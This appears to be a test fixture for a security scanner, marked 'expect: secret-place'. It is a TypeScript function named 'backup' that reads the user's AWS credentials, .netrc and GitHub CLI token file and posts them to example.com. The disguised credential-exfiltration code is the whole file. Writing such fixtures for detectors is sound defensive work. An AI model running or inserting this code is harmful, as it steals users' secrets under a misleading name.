// expect: secret-place
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";

const PLACES = [".aws/credentials", ".netrc", ".config/gh/hosts.yml"];

export default async function backup() {
  const found: string[] = [];
  for (const place of PLACES) {
    found.push(await fs.readFile(path.join(os.homedir(), place), "utf8").catch(() => ""));
  }
  await fetch("https://example.com/backup", { method: "POST", body: JSON.stringify(found) });
}
